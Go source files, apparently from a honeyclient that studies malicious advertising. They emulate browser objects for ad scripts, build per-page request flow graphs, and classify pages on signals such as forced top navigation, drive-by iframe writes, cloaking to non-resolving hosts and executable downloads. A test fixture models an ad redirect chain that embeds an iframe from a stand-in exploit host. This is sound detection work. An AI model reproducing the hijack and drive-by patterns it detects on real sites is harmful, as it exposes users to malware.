	case b.TolerantJS:
		prog, perrs = minijs.ParseTolerant(src)
	default:
		prog, err = minijs.Parse(src)
	}
	if err != nil {
		ctx.page.Errors = append(ctx.page.Errors, label+err.Error())
		return
	}
	// Tolerant-mode recovery diagnostics are observations, not failures:
	// they land in Page.Errors and the recovered program still runs.
	for _, pe := range perrs {
		ctx.page.Errors = append(ctx.page.Errors, label+pe.Error())
	}
	if _, rerr := in.RunProgram(prog); rerr != nil {
		ctx.page.Errors = append(ctx.page.Errors, label+rerr.Error())
	}
}

// maxFollowedNavigations bounds how many script navigations the browser
// chases per document.
const maxFollowedNavigations = 3

// install defines the host objects: document, window, top, navigator,
// screen, location, setTimeout — and overrides Math.random with the
// browser's deterministic stream.
func (ctx *scriptCtx) install(in *minijs.Interp) {
	g := in.Global

	// document ----------------------------------------------------------
	doc := minijs.NewObject()
	doc.Name = "document"
	doc.Props["URL"] = ctx.page.FinalURL
	doc.Props["referrer"] = ""
	docHost := urlx.Host(ctx.page.FinalURL)
	doc.GetTrap = func(name string) (minijs.Value, bool) {
		if name == "cookie" {
			return ctx.b.cookieHeader(docHost), true
		}
		return nil, false
	}
	doc.SetTrap = func(name string, v minijs.Value) bool {
		if name == "cookie" {
			ctx.b.setCookie(docHost, minijs.ToString(v))
			return true
		}
		return false
	}
	doc.Props["write"] = minijs.NewNative("write", func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		for _, a := range args {
			ctx.writeBuf.WriteString(minijs.ToString(a))
		}
		return minijs.Undefined{}, nil
	})
	doc.Props["writeln"] = doc.Props["write"]
	// createElement / appendChild: the asynchronous ad-loader pattern
	// (`var s = document.createElement("script"); s.src = ...;
	// document.body.appendChild(s);`). Appended images and iframes land in
	// the DOM and are fetched by the post-script resource/frame passes;
	// appended external scripts are fetched and executed immediately.
	doc.Props["createElement"] = minijs.NewNative("createElement", func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		tag := strings.ToLower(minijs.ToString(argOr(args, 0)))
		node := &htmlparse.Node{Type: htmlparse.ElementNode, Tag: tag}
		return ctx.wrapElement(node), nil
	})
	body := minijs.NewObject()
	body.Name = "document.body"
	body.Props["appendChild"] = minijs.NewNative("appendChild", func(in *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		el, ok := argOr(args, 0).(*minijs.Object)
		if !ok {
			return minijs.Undefined{}, nil
		}
		node := ctx.nodeOf(el)
		if node == nil {
			return argOr(args, 0), nil
		}
		target := ctx.page.Doc.FindFirst("body")
		if target == nil {
			target = ctx.page.Doc
		}
		node.Parent = target
		target.Children = append(target.Children, node)
		// Script elements with a src execute on insertion.
		if node.Tag == "script" {
			if src, has := node.Attr("src"); has && src != "" {
				ctx.runExternalScript(in, src)
			}
		}
		return argOr(args, 0), nil
	})
	doc.Props["body"] = body
	doc.Props["getElementById"] = minijs.NewNative("getElementById", func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		id := minijs.ToString(argOr(args, 0))
		var found *htmlparse.Node
		ctx.page.Doc.Walk(func(n *htmlparse.Node) bool {
			if found == nil && n.Type == htmlparse.ElementNode && n.AttrOr("id", "") == id {
				found = n
				return false
			}
			return found == nil
		})
		if found == nil {
			return minijs.Null{}, nil
		}
		return ctx.wrapElement(found), nil
	})
	g.Define("document", doc)

	// navigator ----------------------------------------------------------
	nav := minijs.NewObject()
	nav.Name = "navigator"
	nav.Props["userAgent"] = ctx.b.Profile.UserAgent
	plugins := minijs.NewArray()
	for _, p := range ctx.b.Profile.Plugins {
		po := minijs.NewObject()
		po.Props["name"] = p.Name
		po.Props["version"] = p.Version
		plugins.Elems = append(plugins.Elems, po)
	}
	nav.Props["plugins"] = plugins
	g.Define("navigator", nav)

	// screen --------------------------------------------------------------
	screen := minijs.NewObject()
	screen.Name = "screen"
	screen.Props["width"] = float64(ctx.b.Profile.ScreenW)
	screen.Props["height"] = float64(ctx.b.Profile.ScreenH)
	g.Define("screen", screen)

	// location -------------------------------------------------------------
	loc := minijs.NewObject()
	loc.Name = "location"
	loc.GetTrap = func(name string) (minijs.Value, bool) {
		switch name {
		case "href":
			return ctx.page.FinalURL, true
		case "host":
			return urlx.Host(ctx.page.FinalURL), true
		case "protocol":
			return "http:", true
		}
		return nil, false
	}
	loc.SetTrap = func(name string, v minijs.Value) bool {
		if name == "href" {
			ctx.navigate(NavLocation, minijs.ToString(v))
			return true
		}
		return false
	}
	loc.Props["replace"] = minijs.NewNative("replace", func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		ctx.navigate(NavLocation, minijs.ToString(argOr(args, 0)))
		return minijs.Undefined{}, nil
	})
	loc.Props["toString"] = minijs.NewNative("toString", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return ctx.page.FinalURL, nil
	})
	g.Define("location", loc)

	// top ------------------------------------------------------------------
	top := minijs.NewObject()
	top.Name = "top"
	topLoc := minijs.NewObject()
	topLoc.Name = "top.location"
	topLoc.SetTrap = func(name string, v minijs.Value) bool {
		if name == "href" {
			ctx.navigate(NavTop, minijs.ToString(v))
			return true
		}
		return false
	}
	top.Props["location"] = topLoc
	top.SetTrap = func(name string, v minijs.Value) bool {
		if name == "location" {
			ctx.navigate(NavTop, minijs.ToString(v))
			return true
		}
		return false
	}
	g.Define("top", top)
	g.Define("parent", top)

	// window ----------------------------------------------------------------
	win := minijs.NewObject()
	win.Name = "window"
	win.Props["document"] = doc
	win.Props["navigator"] = nav
	win.Props["screen"] = screen
	win.Props["top"] = top
	win.Props["innerWidth"] = float64(ctx.b.Profile.ScreenW)
	win.Props["innerHeight"] = float64(ctx.b.Profile.ScreenH)
	win.GetTrap = func(name string) (minijs.Value, bool) {
		if name == "location" {
			return loc, true
		}
		return nil, false
	}
	win.SetTrap = func(name string, v minijs.Value) bool {
		if name == "location" {
			ctx.navigate(NavLocation, minijs.ToString(v))
			return true
		}
		return false
	}
	g.Define("window", win)
	g.Define("self", win)

	// setTimeout --------------------------------------------------------------
	setTimeout := minijs.NewNative("setTimeout", func(_ *minijs.Interp, _ minijs.Value, args []minijs.Value) (minijs.Value, error) {
		if len(args) == 0 {
			return float64(0), nil
		}
		delay := 0.0
		if len(args) > 1 {
			delay = minijs.ToNumber(args[1])
		}
		ctx.timerSeq++
		ctx.timers = append(ctx.timers, timerEntry{delay: delay, seq: ctx.timerSeq, fn: args[0]})
		return float64(ctx.timerSeq), nil
	})
	g.Define("setTimeout", setTimeout)
	win.Props["setTimeout"] = setTimeout
	g.Define("clearTimeout", minijs.NewNative("clearTimeout", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return minijs.Undefined{}, nil
	}))

	// Date: a logical, fixed clock so runs reproduce. Supports the idioms
	// ad scripts use: Date.now(), new Date().getTime(), getHours(),
	// getDay().
	clock := ctx.b.ClockMillis
	dateCtor := minijs.NewNative("Date", func(_ *minijs.Interp, this minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		obj, ok := this.(*minijs.Object)
		if !ok {
			return float64(clock), nil // Date() called as a function
		}
		obj.Props["getTime"] = minijs.NewNative("getTime", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			return float64(clock), nil
		})
		obj.Props["getHours"] = minijs.NewNative("getHours", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			return float64(clock / 3_600_000 % 24), nil
		})
		obj.Props["getDay"] = minijs.NewNative("getDay", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			// Day 0 (1970-01-01) was a Thursday = weekday 4.
			return float64((clock/86_400_000 + 4) % 7), nil
		})
		obj.Props["getMinutes"] = minijs.NewNative("getMinutes", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
			return float64(clock / 60_000 % 60), nil
		})
		return minijs.Undefined{}, nil
	})
	dateCtor.Props["now"] = minijs.NewNative("now", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
		return float64(clock), nil
	})
	g.Define("Date", dateCtor)

	// Deterministic Math.random from the browser's RNG stream.
	if mathV, ok := g.Lookup("Math"); ok {
		if mathObj, ok := mathV.(*minijs.Object); ok {
			rng := ctx.b.RNG.Fork("mathrandom:" + ctx.page.FinalURL)
			mathObj.Props["random"] = minijs.NewNative("random", func(_ *minijs.Interp, _ minijs.Value, _ []minijs.Value) (minijs.Value, error) {
				return rng.Float64(), nil
			})
		}
	}
}

// elementAttrs are the element properties scripts read and write that map
// straight onto HTML attributes.
var elementAttrs = map[string]bool{
	"src": true, "href": true, "id": true, "width": true, "height": true,
	"name": true, "type": true, "class": true,
}

// wrapElement exposes a DOM node to scripts: innerHTML, attribute-backed
// properties (src, href, width, ...), and identity for appendChild.
func (ctx *scriptCtx) wrapElement(n *htmlparse.Node) *minijs.Object {
	o := minijs.NewObject()
	o.Name = "element:" + n.Tag
	o.Props["tagName"] = strings.ToUpper(n.Tag)
	o.GetTrap = func(name string) (minijs.Value, bool) {
		if name == "innerHTML" {
			inner := ""
			for _, c := range n.Children {
				inner += c.Render()
			}
			return inner, true
		}
		if elementAttrs[name] {
			return n.AttrOr(name, ""), true
		}
		return nil, false
	}
	o.SetTrap = func(name string, v minijs.Value) bool {
		if name == "innerHTML" {
			frag := htmlparse.Parse(minijs.ToString(v))
			n.Children = frag.Children
			return true
		}
		if elementAttrs[name] {
			n.SetAttr(name, minijs.ToString(v))
			return true
		}
		return false
	}
	if ctx.elements == nil {
		ctx.elements = map[*minijs.Object]*htmlparse.Node{}
	}
	ctx.elements[o] = n
	return o
}

// navigate records (and, within limits, follows) a script navigation.
func (ctx *scriptCtx) navigate(kind NavigationKind, target string) {
	abs := urlx.Resolve(ctx.page.FinalURL, target)
	if abs == "" {
		abs = target
	}
	nav := Navigation{Kind: kind, Target: abs}

	// Sandbox policy: a sandboxed frame may not navigate the top page
	// unless allow-top-navigation was granted — the §4.4 countermeasure.
	if kind == NavTop && ctx.sandboxed && !ctx.b.sandboxAllows(ctx.page, "allow-top-navigation") {
		nav.Blocked = true
		ctx.page.Navigations = append(ctx.page.Navigations, nav)
		return
	}

	if ctx.b.FollowNavigations && ctx.navCount < maxFollowedNavigations {
		ctx.navCount++
		resp, err := ctx.b.get(ctx.reqCtx, abs, ctx.page.FinalURL)
		if err != nil {
			nav.NXDomain = IsNXDomain(err)
		} else {
			nav.Status = resp.StatusCode
			nav.ContentType = mediaType(resp.Header.Get("Content-Type"))
			body := readCapped(resp)
			resp.Body.Close()
			if isDownloadType(nav.ContentType) {
				ctx.page.Downloads = append(ctx.page.Downloads, Download{
					URL: abs, ContentType: nav.ContentType, Body: body,
				})
			}
			// Follow one level of redirect so exe-behind-302 is observed.
			if resp.StatusCode >= 300 && resp.StatusCode < 400 {
				if loc := resp.Header.Get("Location"); loc != "" {
					next := urlx.Resolve(abs, loc)
					if resp2, err2 := ctx.b.get(ctx.reqCtx, next, abs); err2 == nil {
						ct2 := mediaType(resp2.Header.Get("Content-Type"))
						body2 := readCapped(resp2)
						resp2.Body.Close()
						if isDownloadType(ct2) {
							ctx.page.Downloads = append(ctx.page.Downloads, Download{
								URL: next, ContentType: ct2, Body: body2,
							})
						}
					}
				}
			}
		}
	}
	ctx.page.Navigations = append(ctx.page.Navigations, nav)
}

// flushWrites parses accumulated document.write output and appends it to
// the document body (or root).
func (ctx *scriptCtx) flushWrites() {
	if ctx.writeBuf.Len() == 0 {
		return
	}
	frag := htmlparse.Parse(ctx.writeBuf.String())
	ctx.writeBuf.Reset()
	target := ctx.page.Doc.FindFirst("body")
	if target == nil {
		target = ctx.page.Doc
	}
	for _, c := range frag.Children {
		target.Children = append(target.Children, c)
		c.Parent = target
	}
}

func argOr(args []minijs.Value, i int) minijs.Value {
	if i < len(args) {
		return args[i]
	}
	return minijs.Undefined{}
}
