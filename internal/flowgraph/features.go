package flowgraph

import "sort"

// Features are the structural features derived from one page's flow graph.
// Every field is computed from sorted node/edge orders, so features are a
// pure function of the canonical graph. Integer fields fold exactly across
// the streaming commit path; the single ratio is derived from its integer
// numerator/denominator.
type Features struct {
	// Size counts.
	Frames   int `json:"frames"`
	Scripts  int `json:"scripts,omitempty"`
	Requests int `json:"requests,omitempty"`
	Domains  int `json:"domains,omitempty"`
	Edges    int `json:"edges,omitempty"`

	// ChainDepth is the arbitration-chain depth: the longest simple path
	// through redirects-to edges, in hops (0 = no redirects).
	ChainDepth int `json:"chain_depth,omitempty"`
	// MaxFanout is the largest out-degree over all nodes — ad arbitration
	// hubs and beacon sprays both show up here.
	MaxFanout int `json:"max_fanout,omitempty"`
	// CrossOriginEdges / OriginEdges: edges whose endpoints resolve to
	// different registered domains, over edges where both are known.
	CrossOriginEdges int     `json:"cross_origin_edges,omitempty"`
	OriginEdges      int     `json:"origin_edges,omitempty"`
	CrossOriginRatio float64 `json:"cross_origin_ratio,omitempty"`
	// RedirectCycleLen is the length of the shortest redirect cycle found
	// (0 = acyclic): the redirect-cycle shape netcap's chain API reports,
	// seen graph-side.
	RedirectCycleLen int `json:"redirect_cycle_len,omitempty"`
	// ScriptPathLen is the longest path (in edges) from any script node —
	// how far script influence flows through writes and fetches.
	ScriptPathLen int `json:"script_path_len,omitempty"`

	// Flow observations the classifier scores.
	DOMWrites      int `json:"dom_writes,omitempty"`
	WrittenIframes int `json:"written_iframes,omitempty"`
	TopNavs        int `json:"top_navs,omitempty"`
	OffsiteNavs    int `json:"offsite_navs,omitempty"`
	NXTargets      int `json:"nx_targets,omitempty"`
	ExeDownloads   int `json:"exe_downloads,omitempty"`
	FlashEmbeds    int `json:"flash_embeds,omitempty"`
	CrossFrameReqs int `json:"cross_frame_reqs,omitempty"`
	BeaconDomains  int `json:"beacon_domains,omitempty"`
}

// computeFeatures derives the feature set once at build time.
func (g *Graph) computeFeatures(c *counters) {
	f := Features{
		Edges:          len(g.edges),
		DOMWrites:      c.domWrites,
		WrittenIframes: c.writtenIframes,
		TopNavs:        c.topNavs,
		OffsiteNavs:    c.offsiteNavs,
		NXTargets:      c.nxTargets,
		ExeDownloads:   c.exeDownloads,
		FlashEmbeds:    c.flashEmbeds,
		CrossFrameReqs: c.crossFrameReqs,
		BeaconDomains:  len(c.beaconDomains),
	}
	for _, kind := range g.nodes {
		switch kind {
		case FrameNode:
			f.Frames++
		case ScriptNode:
			f.Scripts++
		case RequestNode:
			f.Requests++
		case DomainNode:
			f.Domains++
		}
	}

	// Adjacency in sorted order for the path walks.
	adj := map[string][]string{}
	redirectAdj := map[string][]string{}
	outDeg := map[string]int{}
	for e := range g.edges {
		adj[e.From] = append(adj[e.From], e.To)
		outDeg[e.From]++
		if e.Kind == EdgeRedirectsTo {
			redirectAdj[e.From] = append(redirectAdj[e.From], e.To)
		}
	}
	for _, ts := range adj {
		sort.Strings(ts)
	}
	for _, ts := range redirectAdj {
		sort.Strings(ts)
	}
	for _, d := range outDeg {
		if d > f.MaxFanout {
			f.MaxFanout = d
		}
	}

	for e := range g.edges {
		fd, td := g.domain[e.From], g.domain[e.To]
		if fd == "" || td == "" {
			continue
		}
		f.OriginEdges++
		if fd != td {
			f.CrossOriginEdges++
		}
	}
	if f.OriginEdges > 0 {
		f.CrossOriginRatio = float64(f.CrossOriginEdges) / float64(f.OriginEdges)
	}

	// Longest simple redirect path and shortest redirect cycle. Page
	// graphs are small (tens of nodes), so a bounded DFS per node is fine.
	for _, id := range g.Nodes() {
		if len(redirectAdj[id]) == 0 {
			continue
		}
		depth, cyc := longestPath(id, redirectAdj, maxPathDepth)
		if depth > f.ChainDepth {
			f.ChainDepth = depth
		}
		if cyc > 0 && (f.RedirectCycleLen == 0 || cyc < f.RedirectCycleLen) {
			f.RedirectCycleLen = cyc
		}
	}

	// Longest path from any script node over all edge kinds.
	for id, kind := range g.nodes {
		if kind != ScriptNode {
			continue
		}
		depth, _ := longestPath(id, adj, maxPathDepth)
		if depth > f.ScriptPathLen {
			f.ScriptPathLen = depth
		}
	}

	g.feats = f
}

// maxPathDepth bounds the DFS walks; it matches netcap's chain bound.
const maxPathDepth = 128

// longestPath returns the longest simple path (in edges) from start and the
// length of the shortest cycle reachable from it (0 when none). The on-path
// set keeps the walk simple; depth is bounded defensively.
func longestPath(start string, adj map[string][]string, bound int) (depth, cycle int) {
	onPath := map[string]int{start: 0}
	var dfs func(node string, d int) int
	dfs = func(node string, d int) int {
		if d >= bound {
			return d
		}
		best := d
		for _, next := range adj[node] {
			if at, ok := onPath[next]; ok {
				// A cycle: its length is the distance from the re-entered
				// node to here, plus the closing edge.
				if l := d - at + 1; cycle == 0 || l < cycle {
					cycle = l
				}
				continue
			}
			onPath[next] = d + 1
			if got := dfs(next, d+1); got > best {
				best = got
			}
			delete(onPath, next)
		}
		return best
	}
	return dfs(start, 0), cycle
}
