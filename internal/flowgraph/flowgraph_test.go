package flowgraph

import (
	"strings"
	"testing"

	"madave/internal/netcap"
	"madave/internal/stats"
)

// adTrace lays down a representative ad-frame trace: the frame URL 302s
// through an arbitration hop to the creative host, an inline script writes
// a banner image and plants a cross-origin iframe, and a script navigation
// hits an NX host.
func adTrace() Input {
	txs := []netcap.Transaction{
		{Seq: 0, URL: "http://serve.adnet.com/ad?imp=1", Host: "serve.adnet.com",
			Status: 302, Location: "http://arb.pool.com/r", FrameID: "0", Via: "document"},
		{Seq: 1, URL: "http://arb.pool.com/r", Host: "arb.pool.com",
			Status: 302, Location: "http://creative.cdn.com/c1", FrameID: "0", Via: "redirect",
			Initiator: "http://serve.adnet.com/ad?imp=1"},
		{Seq: 2, URL: "http://creative.cdn.com/c1", Host: "creative.cdn.com",
			Status: 200, ContentType: "text/html", FrameID: "0", Via: "redirect",
			Initiator: "http://arb.pool.com/r"},
		{Seq: 3, URL: "http://creative.cdn.com/banners/b0.png", Host: "creative.cdn.com",
			Status: 200, ContentType: "image/png", FrameID: "0", Via: "img",
			Initiator: "http://creative.cdn.com/c1"},
		{Seq: 4, URL: "http://exploit.evil.com/e", Host: "exploit.evil.com",
			Status: 200, ContentType: "text/html", FrameID: "0.0", Via: "iframe",
			Initiator: "http://creative.cdn.com/c1"},
		{Seq: 5, URL: "http://nxbail.com/", Host: "nxbail.com",
			Err: "no such host", FrameID: "0", Via: "nav-location",
			Initiator: "inline:0:0"},
	}
	return Input{
		PageURL:      "http://serve.adnet.com/ad?imp=1",
		Transactions: txs,
		Frames: []Frame{
			{ID: "0", URL: "http://creative.cdn.com/c1"},
			{ID: "0.0", URL: "http://exploit.evil.com/e"},
		},
		Writes: []Write{
			{FrameID: "0", Writer: "inline:0:0", Tags: []string{"img", "iframe"}},
		},
	}
}

// TestOrderInsensitivity is the property test the ISSUE pins down: graph
// construction is order-insensitive — shuffled transaction insert yields a
// byte-identical canonical serialization across many shuffles.
func TestOrderInsensitivity(t *testing.T) {
	in := adTrace()
	want := Build(in).Canonical()
	if want == "" {
		t.Fatal("empty canonical form")
	}
	rng := stats.NewRNG(2014).Fork("flowgraph-shuffle")
	for trial := 0; trial < 100; trial++ {
		shuffled := Input{
			PageURL: in.PageURL,
			Frames:  in.Frames,
			Writes:  in.Writes,
		}
		perm := rng.Perm(len(in.Transactions))
		shuffled.Transactions = make([]netcap.Transaction, len(in.Transactions))
		for i, p := range perm {
			shuffled.Transactions[i] = in.Transactions[p]
		}
		if got := Build(shuffled).Canonical(); got != want {
			t.Fatalf("trial %d: shuffled insert changed the canonical graph:\n--- want ---\n%s--- got ---\n%s", trial, want, got)
		}
	}
}

func TestGraphShape(t *testing.T) {
	g := Build(adTrace())
	f := g.Features()
	if f.Frames != 2 {
		t.Errorf("frames = %d, want 2", f.Frames)
	}
	if f.Scripts != 1 {
		t.Errorf("scripts = %d, want 1", f.Scripts)
	}
	// Chain: serve → arb → creative = 2 redirect hops.
	if f.ChainDepth != 2 {
		t.Errorf("chain depth = %d, want 2", f.ChainDepth)
	}
	if f.RedirectCycleLen != 0 {
		t.Errorf("cycle = %d, want 0", f.RedirectCycleLen)
	}
	if f.NXTargets != 1 {
		t.Errorf("nx targets = %d, want 1", f.NXTargets)
	}
	if f.WrittenIframes != 1 || f.CrossFrameReqs != 1 {
		t.Errorf("written iframes = %d, cross frame reqs = %d, want 1/1", f.WrittenIframes, f.CrossFrameReqs)
	}
	if f.DOMWrites != 1 {
		t.Errorf("dom writes = %d, want 1", f.DOMWrites)
	}
	canon := g.Canonical()
	for _, want := range []string{
		"edge redirects-to req:http://serve.adnet.com/ad?imp=1 -> req:http://arb.pool.com/r",
		"edge writes-dom script:inline:0:0 -> frame:0",
		"edge embeds frame:0 -> frame:0.0",
		"node domain dom:evil.com @evil.com",
	} {
		if !strings.Contains(canon, want) {
			t.Errorf("canonical form missing %q:\n%s", want, canon)
		}
	}
}

func TestRedirectCycleFeature(t *testing.T) {
	in := Input{
		PageURL: "http://a.com/",
		Transactions: []netcap.Transaction{
			{Seq: 0, URL: "http://a.com/", Host: "a.com", Status: 302, Location: "http://b.com/"},
			{Seq: 1, URL: "http://b.com/", Host: "b.com", Status: 302, Location: "http://a.com/"},
		},
	}
	f := Build(in).Features()
	if f.RedirectCycleLen != 2 {
		t.Fatalf("cycle len = %d, want 2", f.RedirectCycleLen)
	}
	v := DefaultPolicy().Classify(f)
	if !v.Malicious || !hasSignal(v, "redirect-cycle") {
		t.Fatalf("verdict = %+v, want redirect-cycle", v)
	}
}

func TestClassifySignals(t *testing.T) {
	p := DefaultPolicy()
	for _, tc := range []struct {
		name   string
		f      Features
		signal string
	}{
		{"hijack", Features{TopNavs: 1}, "forced-top-nav"},
		{"cloak-nx", Features{NXTargets: 1}, "nx-script-target"},
		{"cloak-offsite", Features{OffsiteNavs: 1}, "script-nav-offsite"},
		{"deceptive", Features{ExeDownloads: 1}, "exe-download"},
		{"driveby", Features{WrittenIframes: 1, CrossFrameReqs: 1}, "written-cross-iframe"},
		{"flash", Features{FlashEmbeds: 1}, "flash-embed"},
		{"modelonly", Features{BeaconDomains: 3}, "beacon-fanout"},
		{"deep-chain", Features{ChainDepth: 9}, "deep-chain"},
	} {
		v := p.Classify(tc.f)
		if !v.Malicious || !hasSignal(v, tc.signal) {
			t.Errorf("%s: verdict = %+v, want signal %q", tc.name, v, tc.signal)
		}
	}
	benign := p.Classify(Features{Frames: 1, Scripts: 1, Requests: 2, DOMWrites: 1, BeaconDomains: 1, ChainDepth: 3})
	if benign.Malicious {
		t.Errorf("benign features misclassified: %+v", benign)
	}
	// A written iframe alone (same-origin, e.g. a house ad) is not enough.
	if v := p.Classify(Features{WrittenIframes: 1}); v.Malicious {
		t.Errorf("same-origin written iframe misclassified: %+v", v)
	}
}

func hasSignal(v Verdict, sig string) bool {
	for _, s := range v.Signals {
		if s == sig {
			return true
		}
	}
	return false
}

// TestFeaturesPureFunctionOfGraph: building twice from the same input gives
// identical features and canonical forms (no map-iteration leakage).
func TestFeaturesPureFunctionOfGraph(t *testing.T) {
	in := adTrace()
	a, b := Build(in), Build(in)
	if a.Canonical() != b.Canonical() {
		t.Fatal("canonical forms differ across identical builds")
	}
	if a.Features() != b.Features() {
		t.Fatalf("features differ: %+v vs %+v", a.Features(), b.Features())
	}
}

func TestEvidenceString(t *testing.T) {
	s := &Summary{Verdict: Verdict{Malicious: true, Signals: []string{"exe-download", "script-nav-offsite"}}}
	if got := s.Evidence(); got != "exe-download,script-nav-offsite" {
		t.Fatalf("evidence = %q", got)
	}
	var nilSum *Summary
	if nilSum.Evidence() != "" {
		t.Fatal("nil summary evidence must be empty")
	}
}
