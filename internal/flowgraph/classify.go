package flowgraph

// Policy holds the graph classifier's thresholds. The zero value is not
// meaningful; use DefaultPolicy. Thresholds are deliberately structural —
// they score how requests move through frames and scripts, not URLs or
// signatures, which is why the classifier keeps firing when string-level
// heuristics are evaded (the WebGraph argument).
type Policy struct {
	// BeaconDomainMin is the distinct cross-origin image-beacon domain
	// count at which a creative looks like tracking/malware infrastructure
	// (the model-only campaigns spray pixels across unrelated domains).
	BeaconDomainMin int
	// ChainDepthMax flags arbitration chains deeper than the paper's
	// observed legitimate maximum — drawn-out hand-offs correlate with
	// dark pools of arbitrators.
	ChainDepthMax int
}

// DefaultPolicy returns the stock thresholds.
func DefaultPolicy() Policy {
	return Policy{
		BeaconDomainMin: 3,
		// The paper's Table 4 shows legitimate arbitration chains up to ~8
		// hops; beyond that only suspicious chains appeared.
		ChainDepthMax: 8,
	}
}

// Verdict is the graph classifier's output for one page.
type Verdict struct {
	// Malicious is the classifier's overall call.
	Malicious bool `json:"malicious"`
	// Signals lists the structural signals that fired, sorted (the order
	// below is already sorted, so append order is canonical).
	Signals []string `json:"signals,omitempty"`
}

// Classify scores one page's structural features. Signals, in the fixed
// order they are tested (alphabetical, so the output is canonical):
//
//   - beacon-fanout: images beaconing to ≥ BeaconDomainMin distinct
//     third-party domains (model-only infrastructure).
//   - deep-chain: arbitration chain deeper than ChainDepthMax.
//   - exe-download: a request answered with executable content
//     (deceptive downloads, §2.2).
//   - flash-embed: a Shockwave Flash embed (malicious-Flash channel).
//   - forced-top-nav: a script navigated the top page from inside the ad
//     frame (link hijacking, §2.3).
//   - nx-script-target: a script-driven request hit a non-resolving host
//     (cloaking bail-outs, §3.2.1).
//   - redirect-cycle: the redirect graph loops.
//   - script-nav-offsite: a script navigated the frame to another
//     registered domain (cloaking and forced-redirect shapes).
//   - written-cross-iframe: a script wrote an iframe and the frame pulled
//     a cross-origin subdocument (drive-by planting, §2.1).
func (p Policy) Classify(f Features) Verdict {
	var v Verdict
	if f.BeaconDomains >= p.BeaconDomainMin {
		v.Signals = append(v.Signals, "beacon-fanout")
	}
	if p.ChainDepthMax > 0 && f.ChainDepth > p.ChainDepthMax {
		v.Signals = append(v.Signals, "deep-chain")
	}
	if f.ExeDownloads > 0 {
		v.Signals = append(v.Signals, "exe-download")
	}
	if f.FlashEmbeds > 0 {
		v.Signals = append(v.Signals, "flash-embed")
	}
	if f.TopNavs > 0 {
		v.Signals = append(v.Signals, "forced-top-nav")
	}
	if f.NXTargets > 0 {
		v.Signals = append(v.Signals, "nx-script-target")
	}
	if f.RedirectCycleLen > 0 {
		v.Signals = append(v.Signals, "redirect-cycle")
	}
	if f.OffsiteNavs > 0 {
		v.Signals = append(v.Signals, "script-nav-offsite")
	}
	if f.WrittenIframes > 0 && f.CrossFrameReqs > 0 {
		v.Signals = append(v.Signals, "written-cross-iframe")
	}
	v.Malicious = len(v.Signals) > 0
	return v
}

// Summary bundles one page's features and verdict — the artifact the
// honeyclient attaches to its Report when the graph oracle is enabled.
type Summary struct {
	Features Features `json:"features"`
	Verdict  Verdict  `json:"verdict"`
}

// Evidence renders the fired signals as one comma-joined string for
// incident evidence fields. Empty when the verdict is benign.
func (s *Summary) Evidence() string {
	if s == nil || !s.Verdict.Malicious {
		return ""
	}
	out := ""
	for i, sig := range s.Verdict.Signals {
		if i > 0 {
			out += ","
		}
		out += sig
	}
	return out
}
