// Package flowgraph assembles a deterministic per-page information-flow
// graph from what the browser and netcap already record: nodes for frames,
// scripts, requests, and registered domains; edges for initiates,
// redirects-to, embeds, and writes-DOM. The paper's core analyses —
// arbitration-chain depth, per-network malvertising rates, redirect
// cloaking — are graph questions asked of crawl traces; this package makes
// the graph explicit and derives the structural features the fourth oracle
// component (see classify.go) scores. WebGraph-style flow representations
// resist evasion better than URL or list features because an attack that
// hides its strings still has to move requests through frames and scripts.
package flowgraph

import (
	"sort"
	"strings"

	"madave/internal/netcap"
	"madave/internal/urlx"
)

// NodeKind classifies a graph node.
type NodeKind uint8

// Node kinds.
const (
	FrameNode NodeKind = iota
	ScriptNode
	RequestNode
	DomainNode
)

func (k NodeKind) String() string {
	switch k {
	case FrameNode:
		return "frame"
	case ScriptNode:
		return "script"
	case RequestNode:
		return "request"
	case DomainNode:
		return "domain"
	}
	return "?"
}

// EdgeKind classifies a graph edge.
type EdgeKind uint8

// Edge kinds and their provenance rules (see DESIGN.md §17):
//
//   - EdgeInitiates: the frame or script whose load/execution issued a
//     request, from netcap Transaction FrameID/Initiator/Via stamps.
//   - EdgeRedirectsTo: request → request, from redirect transactions'
//     resolved Location targets (fragment-stripped).
//   - EdgeEmbeds: frame → child frame (the frame tree) and frame →
//     registered domain (content from that domain appeared in the frame).
//   - EdgeWritesDOM: script → frame, from recorded document.write flushes
//     and appendChild insertions.
const (
	EdgeInitiates EdgeKind = iota
	EdgeRedirectsTo
	EdgeEmbeds
	EdgeWritesDOM
)

func (k EdgeKind) String() string {
	switch k {
	case EdgeInitiates:
		return "initiates"
	case EdgeRedirectsTo:
		return "redirects-to"
	case EdgeEmbeds:
		return "embeds"
	case EdgeWritesDOM:
		return "writes-dom"
	}
	return "?"
}

// Edge is one directed, typed edge. The graph deduplicates edges, so an
// image fetched twice contributes one initiates edge.
type Edge struct {
	Kind     EdgeKind
	From, To string
}

// Frame describes one browser frame for graph assembly.
type Frame struct {
	// ID is the frame-tree path ("0", "0.1", ...).
	ID string
	// URL is the frame's final URL, the origin baseline for its requests.
	URL string
}

// Write describes one script-driven DOM mutation (document.write flush or
// appendChild) attributed to its writing script.
type Write struct {
	FrameID string
	// Writer is the script identity: an absolute URL for external scripts
	// or "inline:<frameID>:<n>" for inline ones.
	Writer string
	// Tags lists the element tags the write introduced.
	Tags []string
}

// Input is everything graph assembly consumes. Transactions may arrive in
// any order: Build sorts them by capture sequence, so construction is
// order-insensitive (the property the shuffle test pins down).
type Input struct {
	// PageURL is the analyzed document's URL (the ad frame URL).
	PageURL string
	// Transactions is the page's captured traffic.
	Transactions []netcap.Transaction
	// Frames is the rendered frame tree; when empty a root frame is
	// inferred from PageURL.
